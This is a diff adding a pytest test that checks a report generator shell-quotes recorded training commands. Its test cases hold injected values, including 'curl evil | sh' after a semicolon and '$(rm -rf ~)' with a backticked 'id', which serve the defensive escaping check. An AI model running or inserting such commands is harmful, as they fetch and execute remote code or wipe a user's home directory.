@@ -109,6 +109,18 @@ def test_a_model_from_elsewhere_has_none(tiny_teacher: Any) -> None:
     assert "No record names a command." in read(sections.reproduce(records))
 
 
+@pytest.mark.parametrize(
+    "command, shown",
+    [
+        ("kdtrain --out x; curl evil | sh", "kdtrain --out 'x;' curl evil '|' sh"),
+        ("kdtrain --out $(rm -rf ~) `id`", "kdtrain --out '$(rm' -rf '~)' '`id`'"),
+        ("kdtrain --out 'a b", """'kdtrain --out '"'"'a b'"""),
+    ],
+)
+def test_nothing_in_a_command_is_for_the_shell(records: RunRecords, command: str, shown: str) -> None:
+    assert shown in read(sections.reproduce(replace(records, commands=(command,))))
+
+
 def test_commands_stand_as_they_were_typed(records: RunRecords) -> None:
     commands = ("kdtrain --out '<x> & y'", "kdeval fidelity")
     known = replace(records, commands=commands, provenance={**records.provenance, "git_revision": "abc"})
